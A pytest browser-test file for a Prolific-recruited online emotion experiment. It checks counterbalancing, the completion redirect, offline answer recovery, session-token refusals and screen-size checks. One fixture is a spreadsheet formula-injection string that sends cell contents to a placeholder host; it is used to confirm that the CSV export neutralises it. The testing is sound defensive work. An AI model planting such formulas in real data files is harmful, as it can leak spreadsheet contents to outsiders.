"""The online session as a Prolific study meets it, in headless Chromium against the real server.

Random Prolific-style IDs all start (the server assigns the counterbalancing
numbers), their rows carry the Prolific fields, the completion redirect fires
with the code; answers given while the server is down survive a closed tab and
reach the disk exactly once, the re-shown trial flagged; a second tab, a second
browser and a request without the session token are refused without a word
about anybody else; a browser string written as a spreadsheet formula is
neutralised in the CSV.
"""

import json
import random
import time

import pytest

from experiment import design as lab_design
from experiment.conditions import load_conditions
from experiment.logfile import read_rows
from experiment.web.build import PROLIFIC_COMPLETION, build_site
from experiment.web.rows import raw_value
from experiment.web.server import make_server
from experiment.web.store import GENERIC_REFUSAL, NO_SESSION

from .conftest import post
from .participant import Participant
from .test_browser import CARD_PX, DISTANCE_MM, new_page

pytestmark = [pytest.mark.browser, pytest.mark.slow]

FORMULA_UA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'


def prolific_ids(n, seed):
    rng = random.Random(seed)
    return [f"{rng.getrandbits(96):024x}" for _ in range(n)]


def prolific_link(base, pid, study="65a0b1c2d3e4f5a6b7c8d9e0", session="sess9f8e7d6c5b4a"):
    return f"{base}/?PROLIFIC_PID={pid}&STUDY_ID={study}&SESSION_ID={session}"


def sessions(logs):
    return {p.stem: json.loads(p.read_text()) for p in logs.glob("*.json")}


def test_fifty_random_prolific_ids_all_start_with_balanced_server_numbers(chromium, server, site, manifests):
    base, logs = server
    ids = prolific_ids(50, seed=18)
    assert sum(i[-1] == ids[0][-1] for i in ids) > 1  # IDs ending in the same digit: refused before this release
    twin = next(i for i in ids[1:] if i[-1] == ids[0][-1])
    # Three of them (the two twins among them) open the link in Chromium; the page's request to start the
    # session is recorded and sent for the other 47 as it is, with their ID in it: the server sees what
    # 50 browsers would send, without 47 more page loads (the balance is the server's, not the page's).
    in_browser = [ids[0], twin, next(i for i in ids[1:] if i != twin)]
    starts = []
    for pid in in_browser:
        context, page, outside = new_page(chromium)
        page.on("request", lambda r: starts.append(r.post_data_json) if r.url.endswith("/api/session") else None)
        p = Participant(page)
        page.goto(prolific_link(base, pid))
        p.consent()
        p.wait("fullscreen")  # the server has created the session and sent its order
        context.close()
        assert not p.errors and not outside
    assert [s["participant"] for s in starts] == [s["prolific_pid"] for s in starts] == in_browser
    page_sent = starts[0]
    for pid in ids:
        if pid not in in_browser:
            status, reply = post(base, "/api/session", dict(page_sent, participant=pid, prolific_pid=pid))
            assert status == 200, reply
    metas = list(sessions(logs).values())
    assert sorted(m["participant"] for m in metas) == sorted(ids)
    # numbers 1..50 in order of arrival: through the Latin-square rows evenly, whatever the IDs look like
    assert sorted(m["participant_number"] for m in metas) == list(range(1, 51))
    rows_used = [m["counterbalancing"]["latin_square_row"] for m in metas]
    period = metas[0]["counterbalancing"]["latin_square_rows"]
    assert max(rows_used.count(r) for r in set(rows_used)) - min(rows_used.count(r) for r in range(period)) <= 1
    for m in metas:
        assert m["recruitment"] == {"prolific_pid": m["participant"], "study_id": "65a0b1c2d3e4f5a6b7c8d9e0",
                                    "session_id": "sess9f8e7d6c5b4a"}
    # numbers beyond those baked into the site (1-8) get the lab's own order for that number
    rows = load_conditions(manifests[0], warn=None)
    for m in metas:
        if m["participant_number"] in (9, 37, 50):
            stem = m["log_file"][:-4]
            order = read_rows(logs / f"{stem}_order.csv")
            lab, info = lab_design.trial_order(rows, m["participant_number"], 1)
            assert [r["stimulus"] for r in order] == [t["stimulus"] for t in lab] and m["seed"] == info["seed"]


@pytest.fixture(scope="module")
def prolific_site(manifests, tmp_path_factory):
    """2 trials, no practice, the Prolific completion code C0DE42."""
    out = tmp_path_factory.mktemp("prolific") / "site"
    build_site(manifests[0], out, max_trials=2, cb_numbers=8, break_every=0,
               completion=PROLIFIC_COMPLETION.format(code="C0DE42"))
    return out


@pytest.fixture
def prolific_server(prolific_site, tmp_path):
    srv = make_server(prolific_site, tmp_path / "logs", port=0, quiet=True)
    yield from _run(srv, tmp_path / "logs")


def _run(srv, logs):
    import threading

    srv.server.config.install_signal_handlers = False
    srv.thread = threading.Thread(target=srv.serve_forever, daemon=True)
    srv.thread.start()
    while not srv.server.started:
        time.sleep(0.01)
    yield f"http://127.0.0.1:{srv.server_address[1]}", logs
    srv.shutdown()
    srv.server_close()


def test_a_prolific_participant_finishes_and_is_sent_back_with_the_code(chromium, prolific_site, prolific_server):
    base, logs = prolific_server
    pid = prolific_ids(1, seed=7)[0]
    context = chromium.new_context(viewport={"width": 1280, "height": 800}, user_agent=FORMULA_UA)
    page = context.new_page()
    outside = []
    page.route(lambda url: not url.startswith(("http://127.0.0.1", "data:", "blob:")),
               lambda route: (outside.append(route.request.url), route.abort()))
    p = Participant(page)
    page.goto(prolific_link(base, pid))
    p.consent()
    p.enter_fullscreen()
    p.calibrate(CARD_PX, DISTANCE_MM)
    p.message("instructions")
    p.trial(1)
    p.trial(2, emotion_key="5")
    p.wait("debrief")
    page.click("#hf-debrief-done")
    p.wait("end")
    deadline = time.monotonic() + 20
    while not outside and time.monotonic() < deadline:
        page.wait_for_timeout(50)  # (Playwright runs the route handler only while it waits)
    context.close()
    assert outside == ["https://app.prolific.com/submissions/complete?cc=C0DE42"]
    assert "C0DE42" not in (prolific_site / "design.js").read_text()  # only those who finish get the code
    (csv_path,) = [f for f in logs.glob(f"{pid}_halfface_*.csv") if not f.stem.endswith(("_order", "_practice"))]
    rows = read_rows(csv_path)
    assert [r["trial"] for r in rows] == ["1", "2"]
    for r in rows:
        assert (r["participant"], r["prolific_pid"], r["study_id"], r["session_id"]) == \
               (pid, pid, "65a0b1c2d3e4f5a6b7c8d9e0", "sess9f8e7d6c5b4a")
        # the formula arrives as text: an apostrophe in front, the browser's string recoverable
        assert r["browser"] == "'" + FORMULA_UA and raw_value(r["browser"]) == FORMULA_UA
    assert csv_path.stat().st_mode & 0o777 == 0o600


def test_answers_given_while_the_server_is_down_reach_the_disk_once_after_a_closed_tab(
        chromium, site, tmp_path, screenshot_dir):
    # ~35 s, in real time: the page is opened twice, and each opening measures the refresh rate (4 s) and
    # runs the chinrest's five blind-spot sweeps again, as it does for a participant who comes back.
    logs = tmp_path / "logs"
    srv = make_server(site, logs, port=0, quiet=True)
    running = _run(srv, logs)
    base, _ = next(running)
    port = srv.server_address[1]
    context, page, outside = new_page(chromium)
    p = Participant(page, screenshot_dir, prefix="offline_")
    page.goto(f"{base}/?participant=R11")
    p.consent()
    p.enter_fullscreen()
    p.calibrate(CARD_PX, DISTANCE_MM)
    p.message("instructions")
    for k in range(1, 5):
        p.trial(f"practice{k}")
    p.message("practice_end")
    p.trial(1)
    p.trial(2)
    deadline = time.monotonic() + 30
    while page.evaluate("SESSION.outbox.length") and time.monotonic() < deadline:  # trials 1-2 acknowledged
        page.wait_for_timeout(20)
    next(running, None)  # the server stops
    for k in (3, 4, 5):  # three answers while it is down: the page keeps them and says so
        p.trial(k, emotion_key=str(k))
        if k == 3:
            p.page.wait_for_selector("#hf-notice", timeout=20_000)
            p.snap("offline_notice")
        if k == 4:
            p.message("break")  # the site's break after every 4 trials
    p.wait("fixation", 6)  # trial 6 on screen when the tab is closed
    assert page.evaluate("SESSION.outbox.length") >= 3
    page.close()
    assert len(read_rows(next(logs.glob("R11_halfface_*[0-9].csv")))) == 2

    srv = make_server(site, logs, port=port, quiet=True)  # restarted on its port, same log folder
    running = _run(srv, logs)
    next(running)
    page = context.new_page()
    p = Participant(page, screenshot_dir, prefix="reopened_")
    page.goto(f"{base}/?participant=R11")  # consent was given: not asked again
    p.enter_fullscreen()
    p.calibrate(CARD_PX, DISTANCE_MM)
    p.message("instructions")
    for k in (6, 7, 8):
        p.trial(k)
    p.wait("debrief")
    page.click("#hf-debrief-done")
    p.wait("end")
    context.close()
    next(running, None)
    assert not p.errors and not outside
    (csv_path,) = [f for f in logs.glob("R11_halfface_*.csv") if not f.stem.endswith(("_order", "_practice"))]
    rows = read_rows(csv_path)
    assert [r["trial"] for r in rows] == [str(k) for k in range(1, 9)]  # every answer, exactly once
    assert [r["response_key"] for r in rows][2:5] == ["3", "4", "5"]
    assert [r["reshown"] for r in rows] == ["0"] * 5 + ["1", "0", "0"]  # trial 6 was on screen at the close
    meta = json.loads(csv_path.with_suffix(".json").read_text())
    assert meta["completed"] is True and len(meta["runs"]) == 2 and meta["runs"][1]["first_trial"] == 3  # the server had 2 rows


def test_a_second_tab_a_second_browser_and_a_request_without_the_token_are_refused(chromium, server):
    base, logs = server
    context, page, _ = new_page(chromium)
    p = Participant(page)
    page.goto(f"{base}/?participant=T21")
    p.consent()
    p.wait("fullscreen")
    (sidecar,) = logs.glob("T21_halfface_*.json")
    stem = sidecar.stem
    # 1. another participant first, so that a leak would have something to show
    other_context, other, _ = new_page(chromium)
    other.goto(f"{base}/?participant=Q99")
    Participant(other).consent()
    Participant(other).wait("fullscreen")
    other_stem = next(logs.glob("Q99_halfface_*.json")).stem
    before = {f.name: f.read_bytes() for f in logs.iterdir()}

    second_tab = context.new_page()  # same browser, same ID: the tab lock says no
    second_tab.goto(f"{base}/?participant=T21")
    second_tab.wait_for_selector(".hf-error")
    # 2. a second browser (no token) with the same ID: the server says no
    third_context, third, _ = new_page(chromium)
    third.goto(f"{base}/?participant=T21")
    Participant(third).consent()
    third.wait_for_selector(".hf-error")
    for refused in (second_tab, third):
        text = refused.inner_text("body")
        assert "cannot be opened here" in text
        assert stem not in text and other_stem not in text and "Q99" not in text and ".csv" not in text
    # 3. requests without the token (or with a guessed one)
    for token in (None, "guess", "A" * 43):
        for path in ("/api/trial", "/api/calibration", "/api/end"):
            body = {"stem": stem, "kind": "trial", "row": {}, "px_per_deg": 1}
            if token:
                body["token"] = token
            status, reply = post(base, path, body)
            assert status == 403 and reply["error"] == NO_SESSION, (path, token)
    status, reply = post(base, "/api/session", {"participant": "T21", "session": 1})
    assert status == 409 and reply["error"] == GENERIC_REFUSAL
    assert {f.name: f.read_bytes() for f in logs.iterdir()} == before  # nothing written for any of them
    for c in (context, other_context, third_context):
        c.close()


def test_a_window_too_small_for_the_face_and_the_keys_is_asked_to_grow_or_stop(chromium, server):
    base, logs = server
    context = chromium.new_context(viewport={"width": 1280, "height": 330})  # a wide but very short window
    page = context.new_page()
    p = Participant(page)
    page.goto(f"{base}/?participant=S05")
    p.consent()
    p.enter_fullscreen()
    p.calibrate(300, DISTANCE_MM)  # a large card: 3.5 px/mm, so the 10-degree face is ~367 px tall
    p.wait("screen_too_small")
    text = page.inner_text("#hf-final")
    assert "too small" in text and "1280 x 330" in text
    page.keyboard.press("Space")  # checked again: still too small
    p.wait("screen_too_small")
    page.keyboard.press("q")
    p.wait("fit_stopped")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        meta = json.loads(next(logs.glob("S05_halfface_*.json")).read_text())
        if meta["ended_by"] != "running":
            break
        page.wait_for_timeout(100)
    context.close()
    assert not p.errors
    assert meta["ended_by"] == "browser ended early" and meta["n_trials_done"] == 0
    fit = meta["runs"][-1]["timing"]["screen_fit"]
    assert fit["fits"] is False and fit["checks"] == 2 and fit["need_h"] > 330 and fit["face_h"] > 330
